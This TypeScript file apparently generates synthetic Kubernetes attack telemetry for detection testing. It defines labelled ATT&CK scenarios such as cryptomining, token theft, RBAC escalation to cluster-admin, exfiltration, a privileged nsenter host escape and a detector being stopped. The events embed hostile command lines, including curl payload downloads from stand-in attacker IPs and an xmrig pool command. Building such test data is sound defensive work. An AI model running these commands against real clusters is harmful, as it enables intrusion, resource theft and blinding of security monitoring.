/**
 * The injected attacks. Each is a short chain of events labelled with its attack id and
 * the ATT&CK technique of that step.
 */
import type { PodSpec } from './estate.js';
import {
  auditEvent,
  falcoAlert,
  ocsfDetectionFinding,
  ocsfNetworkFlow,
  ocsfProcessLaunch,
} from './records.js';
import { anonymous, human, podServiceAccount } from './actors.js';
import type { Ctx } from './normal.js';

export interface AttackSpec {
  readonly id: string;
  readonly title: string;
  /** Techniques used, in order. */
  readonly techniques: readonly string[];
  /** Preferred position in the window (0..1); jittered by the seed. */
  readonly at: number;
  run(ctx: Ctx, t0: number): void;
}

const MINER_POOL = '45.9.148.21';
const EXFIL = '185.220.101.47';
const CONTRACTOR_IP = '203.0.113.77';
const SCANNER_IP = '198.51.100.23';
/** The compromised contractor identity behind the interactive attacks. */
const CONTRACTOR = human(
  'dev-contractor@example.com',
  ['oidc:contractors', 'system:authenticated'],
  CONTRACTOR_IP,
);
const DROPPER_HOST = '91.215.85.17';

function stepper(ctx: Ctx, t0: number) {
  let t = t0;
  return (lo: number, hi: number): number => (t += ctx.rng.between(lo, hi));
}

/**
 * A human's interactive shell in a pod: lists the namespace's pods, opens `kubectl exec
 * -it … sh` (audit `create pods/exec`, HTTP 101), and Falco reports the terminal shell.
 * Returns the time of the last event.
 */
function interactiveShell(
  ctx: Ctx,
  step: (lo: number, hi: number) => number,
  who: ReturnType<typeof human>,
  pod: PodSpec,
  label: (technique: string) => { id: string; technique: string },
  options: { execAfter: readonly [number, number]; shellTechnique: string },
): number {
  const { rng } = ctx;
  let t = step(0, 0);
  ctx.emit(
    t,
    auditEvent(rng, {
      time: t,
      actor: who,
      verb: 'list',
      resource: 'pods',
      namespace: pod.namespace,
    }),
    label('T1613'),
  );
  t = step(...options.execAfter);
  ctx.emit(
    t,
    auditEvent(rng, {
      time: t,
      actor: who,
      verb: 'create',
      resource: 'pods',
      namespace: pod.namespace,
      name: pod.name,
      subresource: 'exec',
      code: 101,
      level: 'Request',
      query: `command=sh&container=${pod.workload.name}&stdin=true&stdout=true&tty=true`,
    }),
    label('T1609'),
  );
  t = step(100, 600);
  ctx.emit(
    t,
    falcoAlert(rng, {
      time: t,
      pod,
      rule: 'Terminal shell in container',
      priority: 'Notice',
      message: 'A shell was spawned in a container with an attached terminal',
      proc: { name: 'sh', cmdline: 'sh', pname: 'runc' },
      tags: ['T1059', 'container', 'maturity_stable', 'mitre_execution', 'shell'],
      sidekick: true,
    }),
    label(options.shellTechnique),
  );
  return t;
}

export const ATTACKS: readonly AttackSpec[] = [
  {
    id: 'cryptominer',
    title: 'exec into a storefront pod, then a crypto-miner talking to a mining pool',
    techniques: ['T1613', 'T1609', 'T1059.004', 'T1105', 'T1496'],
    at: 0.18,
    run(ctx, t0) {
      const { rng, estate } = ctx;
      const step = stepper(ctx, t0);
      const pod = rng.pick(estate.podsOf('shop', 'storefront'));
      estate.pinned.add(pod);
      const who = CONTRACTOR;
      const label = (technique: string) => ({ id: 'cryptominer', technique });
      let t = interactiveShell(ctx, step, who, pod, label, {
        execAfter: [8000, 30000],
        shellTechnique: 'T1059.004',
      });
      t = step(10000, 40000);
      ctx.emit(
        t,
        ocsfProcessLaunch(rng, {
          time: t,
          pod,
          name: 'curl',
          cmdline: `curl -fsSL http://${MINER_POOL}/x.sh -o /tmp/.x/x.sh`,
          path: '/usr/bin/curl',
          parent: 'sh',
        }),
        label('T1105'),
      );
      t = step(2000, 8000);
      ctx.emit(
        t,
        falcoAlert(rng, {
          time: t,
          pod,
          rule: 'Drop and execute new binary in container',
          priority: 'Critical',
          message: 'Executing binary not part of base image',
          proc: {
            name: 'xmrig',
            cmdline: `/tmp/.x/xmrig -o ${MINER_POOL}:3333 -u 4AdUndXHHZ9pfQj27iMAjAbhaX4Am --donate-level 1 -B`,
            pname: 'sh',
            exepath: '/tmp/.x/xmrig',
          },
          tags: ['T1610', 'container', 'maturity_stable', 'mitre_persistence', 'process'],
          sidekick: true,
        }),
        label('T1105'),
      );
      t = step(10, 200);
      ctx.emit(
        t,
        ocsfProcessLaunch(rng, {
          time: t,
          pod,
          name: 'xmrig',
          cmdline: `/tmp/.x/xmrig -o ${MINER_POOL}:3333 -u 4AdUndXHHZ9pfQj27iMAjAbhaX4Am --donate-level 1 -B`,
          path: '/tmp/.x/xmrig',
          parent: 'sh',
        }),
        label('T1496'),
      );
      t = step(300, 2000);
      ctx.emit(
        t,
        falcoAlert(rng, {
          time: t,
          pod,
          rule: 'Detect outbound connections to common miner pool ports',
          priority: 'Critical',
          message: 'Outbound connection to IP/Port flagged by https://cryptoioc.ch',
          proc: {
            name: 'xmrig',
            cmdline: `/tmp/.x/xmrig -o ${MINER_POOL}:3333`,
            pname: 'sh',
            exepath: '/tmp/.x/xmrig',
          },
          tags: ['T1496', 'host', 'maturity_sandbox', 'mitre_impact', 'network'],
          extra: {
            'fd.cip': pod.ip,
            'fd.cport': rng.between(32768, 60999),
            'fd.sip': MINER_POOL,
            'fd.sport': 3333,
            'fd.l4proto': 'tcp',
          },
          sidekick: true,
        }),
        label('T1496'),
      );
      for (let i = 0; i < 3; i++) {
        t = step(20000, 70000);
        ctx.emit(
          t,
          ocsfNetworkFlow(rng, {
            time: t,
            pod,
            dstIp: MINER_POOL,
            dstPort: 3333,
            protocol: 'tcp',
            bytesOut: rng.between(4000, 20000),
            bytesIn: rng.between(2000, 9000),
          }),
          label('T1496'),
        );
      }
    },
  },
  {
    id: 'sa-token-theft',
    title: 'a compromised Grafana pod reads payments secrets and mints a payments-api token',
    techniques: ['T1552.007', 'T1528', 'T1613'],
    at: 0.34,
    run(ctx, t0) {
      const { rng, estate } = ctx;
      const step = stepper(ctx, t0);
      const grafana = estate.podsOf('monitoring', 'grafana')[0] as PodSpec;
      const who = podServiceAccount(grafana, 'curl/8.5.0');
      const label = (technique: string) => ({ id: 'sa-token-theft', technique });
      const reason =
        'RBAC: allowed by ClusterRoleBinding "grafana-datasources" of ClusterRole "grafana-secret-reader" to ServiceAccount "grafana/monitoring"';
      let t = step(0, 0);
      ctx.emit(
        t,
        auditEvent(rng, {
          time: t,
          actor: who,
          verb: 'list',
          resource: 'secrets',
          namespace: 'payments',
          reason,
        }),
        label('T1552.007'),
      );
      t = step(3000, 20000);
      ctx.emit(
        t,
        auditEvent(rng, {
          time: t,
          actor: who,
          verb: 'get',
          resource: 'secrets',
          namespace: 'payments',
          name: estate.tokenSecrets.get('payments/payments-api') as string,
          reason,
        }),
        label('T1528'),
      );
      t = step(3000, 20000);
      ctx.emit(
        t,
        auditEvent(rng, {
          time: t,
          actor: who,
          verb: 'create',
          resource: 'serviceaccounts',
          namespace: 'payments',
          name: 'payments-api',
          subresource: 'token',
          level: 'Request',
          reason,
          requestObject: {
            kind: 'TokenRequest',
            apiVersion: 'authentication.k8s.io/v1',
            spec: { audiences: ['https://kubernetes.default.svc'], expirationSeconds: 315360000 },
          },
        }),
        label('T1528'),
      );
      // The stolen identity, used from the Grafana pod's address.
      const stolen = {
        ...podServiceAccount(grafana, 'curl/8.5.0', 'payments-api'),
        username: 'system:serviceaccount:payments:payments-api',
        groups: [
          'system:serviceaccounts',
          'system:serviceaccounts:payments',
          'system:authenticated',
        ],
      };
      t = step(10000, 60000);
      ctx.emit(
        t,
        auditEvent(rng, {
          time: t,
          actor: stolen,
          verb: 'list',
          resource: 'pods',
          namespace: 'payments',
        }),
        label('T1613'),
      );
      t = step(2000, 9000);
      ctx.emit(
        t,
        auditEvent(rng, {
          time: t,
          actor: stolen,
          verb: 'list',
          resource: 'secrets',
          namespace: 'payments',
          code: 403,
        }),
        label('T1552.007'),
      );
    },
  },
  {
    id: 'rbac-escalation',
    title:
      'the CI runner service account binds itself to cluster-admin and reads secrets cluster-wide',
    techniques: ['T1069.003', 'T1098.006', 'T1552.007', 'T1528'],
    at: 0.5,
    run(ctx, t0) {
      const { rng, estate } = ctx;
      const step = stepper(ctx, t0);
      const runner = rng.pick(estate.podsOf('ci', 'runner'));
      const who = podServiceAccount(runner, 'kubectl/v1.30.2 (linux/amd64) kubernetes/3968350');
      const label = (technique: string) => ({ id: 'rbac-escalation', technique });
      let t = step(0, 0);
      ctx.emit(
        t,
        auditEvent(rng, {
          time: t,
          actor: who,
          verb: 'get',
          resource: 'clusterroles',
          apiGroup: 'rbac.authorization.k8s.io',
          name: 'cluster-admin',
        }),
        label('T1069.003'),
      );
      t = step(5000, 30000);
      ctx.emit(
        t,
        auditEvent(rng, {
          time: t,
          actor: who,
          verb: 'create',
          resource: 'clusterrolebindings',
          apiGroup: 'rbac.authorization.k8s.io',
          name: 'ci-runner-admin',
          level: 'RequestResponse',
          reason:
            'RBAC: allowed by ClusterRoleBinding "ci-runner-rbac-manager" of ClusterRole "rbac-manager" to ServiceAccount "runner/ci"',
          requestObject: {
            kind: 'ClusterRoleBinding',
            apiVersion: 'rbac.authorization.k8s.io/v1',
            metadata: { name: 'ci-runner-admin' },
            roleRef: {
              apiGroup: 'rbac.authorization.k8s.io',
              kind: 'ClusterRole',
              name: 'cluster-admin',
            },
            subjects: [{ kind: 'ServiceAccount', name: 'runner', namespace: 'ci' }],
          },
        }),
        label('T1098.006'),
      );
      t = step(5000, 30000);
      ctx.emit(
        t,
        auditEvent(rng, {
          time: t,
          actor: who,
          verb: 'list',
          resource: 'secrets',
          reason:
            'RBAC: allowed by ClusterRoleBinding "ci-runner-admin" of ClusterRole "cluster-admin" to ServiceAccount "runner/ci"',
        }),
        label('T1552.007'),
      );
      t = step(3000, 20000);
      ctx.emit(
        t,
        auditEvent(rng, {
          time: t,
          actor: who,
          verb: 'get',
          resource: 'secrets',
          namespace: 'ci',
          name: estate.tokenSecrets.get('ci/deployer') as string,
          reason:
            'RBAC: allowed by ClusterRoleBinding "ci-runner-admin" of ClusterRole "cluster-admin" to ServiceAccount "runner/ci"',
        }),
        label('T1528'),
      );
    },
  },
  {
    id: 'anonymous-access',
    title: 'an internet scanner probes the API server anonymously',
    techniques: ['T1190', 'T1613', 'T1552.007'],
    at: 0.07,
    run(ctx, t0) {
      const { rng } = ctx;
      const step = stepper(ctx, t0);
      const who = anonymous(SCANNER_IP, 'python-requests/2.31.0');
      const label = (technique: string) => ({ id: 'anonymous-access', technique });
      let t = step(0, 0);
      ctx.emit(
        t,
        auditEvent(rng, {
          time: t,
          actor: who,
          verb: 'get',
          resource: '',
          path: '/version',
          code: 200,
          reason:
            'RBAC: allowed by ClusterRoleBinding "system:public-info-viewer" of ClusterRole "system:public-info-viewer" to Group "system:unauthenticated"',
        }),
        label('T1190'),
      );
      for (const [resource, technique] of [
        ['secrets', 'T1552.007'],
        ['pods', 'T1613'],
        ['namespaces', 'T1613'],
        ['serviceaccounts', 'T1613'],
      ] as const) {
        t = step(200, 3000);
        ctx.emit(
          t,
          auditEvent(rng, { time: t, actor: who, verb: 'list', resource, code: 403 }),
          label(technique),
        );
      }
    },
  },
  {
    id: 'exfil-new-destination',
    title: 'payments-api sends data to an address never seen before',
    techniques: ['T1041'],
    at: 0.66,
    run(ctx, t0) {
      const { rng, estate } = ctx;
      const step = stepper(ctx, t0);
      const pod = rng.pick(estate.podsOf('payments', 'payments-api'));
      estate.pinned.add(pod);
      for (let i = 0; i < 4; i++) {
        const t = step(i === 0 ? 0 : 15000, 90000);
        ctx.emit(
          t,
          ocsfNetworkFlow(rng, {
            time: t,
            pod,
            dstIp: EXFIL,
            dstPort: 443,
            protocol: 'tcp',
            bytesOut: rng.between(8_000_000, 40_000_000),
            bytesIn: rng.between(3000, 9000),
          }),
          { id: 'exfil-new-destination', technique: 'T1041' },
        );
      }
    },
  },
  {
    id: 'privileged-pod',
    title: 'a privileged host-PID pod in kube-system, reported by a GuardDuty finding (OCSF 2004)',
    techniques: ['T1610', 'T1611', 'T1609'],
    at: 0.82,
    run(ctx, t0) {
      const { rng, estate } = ctx;
      const step = stepper(ctx, t0);
      const who = CONTRACTOR;
      const node =
        estate.nodes.find((n) => n.name === 'node-c') ??
        (estate.nodes[1] as (typeof estate.nodes)[number]);
      const pod: PodSpec = {
        namespace: 'kube-system',
        name: 'debug-tools',
        uid: rng.uuid(),
        node,
        ip: node.ip,
        containerId: rng.hex(12),
        bare: true,
        workload: {
          kind: 'Deployment',
          namespace: 'kube-system',
          name: 'debug-tools',
          replicas: 1,
          image: 'docker.io/library/alpine:3.20',
          labels: { run: 'debug-tools' },
          serviceAccount: 'default',
          uid: '',
          process: 'sh',
          port: 0,
          protocol: 'tcp',
          hostNetwork: true,
        },
      };
      const label = (technique: string) => ({ id: 'privileged-pod', technique });
      let t = step(0, 0);
      ctx.emit(
        t,
        auditEvent(rng, {
          time: t,
          actor: who,
          verb: 'create',
          resource: 'pods',
          namespace: 'kube-system',
          name: 'debug-tools',
          level: 'Request',
          requestObject: {
            kind: 'Pod',
            apiVersion: 'v1',
            metadata: {
              name: 'debug-tools',
              namespace: 'kube-system',
              labels: { run: 'debug-tools' },
            },
            spec: {
              hostPID: true,
              hostNetwork: true,
              nodeName: node.name,
              containers: [
                {
                  name: 'debug-tools',
                  image: 'docker.io/library/alpine:3.20',
                  command: ['sleep', 'infinity'],
                  securityContext: { privileged: true },
                },
              ],
            },
          },
        }),
        label('T1610'),
      );
      estate.addPod(pod);
      t = step(20000, 90000);
      ctx.emit(
        t,
        ocsfDetectionFinding(rng, {
          time: t,
          title: 'PrivilegeEscalation:Kubernetes/PrivilegedContainer',
          description:
            'A privileged container with root level access was launched on your EKS cluster.',
          severityId: 4,
          technique: { uid: 'T1611', name: 'Escape to Host' },
          tactic: { uid: 'TA0004', name: 'Privilege Escalation' },
          pod,
          actor: who.username,
        }),
        label('T1611'),
      );
      t = step(10000, 60000);
      ctx.emit(
        t,
        auditEvent(rng, {
          time: t,
          actor: who,
          verb: 'create',
          resource: 'pods',
          namespace: 'kube-system',
          name: 'debug-tools',
          subresource: 'exec',
          code: 101,
          level: 'Request',
          query:
            'command=nsenter&command=-t&command=1&command=-m&command=-u&command=-i&command=-n&command=sh&container=debug-tools&stdin=true&stdout=true&tty=true',
        }),
        label('T1609'),
      );
    },
  },
  {
    id: 'ledger-drift',
    title:
      'SQL injection reaches COPY FROM PROGRAM on the ledger database: postgres downloads and runs a binary',
    techniques: ['T1105', 'T1059.004', 'T1071.001'],
    at: 0.42,
    run(ctx, t0) {
      const { rng, estate } = ctx;
      const step = stepper(ctx, t0);
      const pod = rng.pick(estate.podsOf('payments', 'ledger-db'));
      estate.pinned.add(pod);
      const label = (technique: string) => ({ id: 'ledger-drift', technique });
      const dropped = '/tmp/.pg_stat_tmp/pgsqlw';
      let t = step(0, 0);
      ctx.emit(
        t,
        ocsfProcessLaunch(rng, {
          time: t,
          pod,
          name: 'curl',
          cmdline: `curl -fsS http://${DROPPER_HOST}/p -o ${dropped}`,
          path: '/usr/bin/curl',
          parent: 'postgres',
          user: 'postgres',
        }),
        label('T1105'),
      );
      t = step(800, 4000);
      ctx.emit(
        t,
        falcoAlert(rng, {
          time: t,
          pod,
          rule: 'Drop and execute new binary in container',
          priority: 'Critical',
          message: 'Executing binary not part of base image',
          proc: {
            name: 'pgsqlw',
            cmdline: dropped,
            pname: 'postgres',
            user: 'postgres',
            exepath: dropped,
          },
          tags: ['T1610', 'container', 'maturity_stable', 'mitre_persistence', 'process'],
          sidekick: true,
        }),
        label('T1059.004'),
      );
      t = step(5000, 30000);
      ctx.emit(
        t,
        ocsfNetworkFlow(rng, {
          time: t,
          pod,
          dstIp: DROPPER_HOST,
          dstPort: 443,
          protocol: 'tcp',
          bytesOut: rng.between(600, 2400),
          bytesIn: rng.between(300, 1200),
        }),
        label('T1071.001'),
      );
    },
  },
  {
    id: 'soc-tamper',
    title: 'the contractor identity opens a shell in the Vigil detector pod to blind the SOC',
    techniques: ['T1613', 'T1609', 'T1562.001'],
    at: 0.58,
    run(ctx, t0) {
      const { rng, estate } = ctx;
      const step = stepper(ctx, t0);
      const pod = rng.pick(estate.podsOf('vigil', 'detector'));
      estate.pinned.add(pod);
      const who = CONTRACTOR;
      const label = (technique: string) => ({ id: 'soc-tamper', technique });
      let t = interactiveShell(ctx, step, who, pod, label, {
        execAfter: [5000, 20000],
        shellTechnique: 'T1609',
      });
      t = step(3000, 15000);
      ctx.emit(
        t,
        ocsfProcessLaunch(rng, {
          time: t,
          pod,
          name: 'kill',
          cmdline: 'kill -STOP 1',
          path: '/bin/kill',
          parent: 'sh',
        }),
        label('T1562.001'),
      );
    },
  },
];
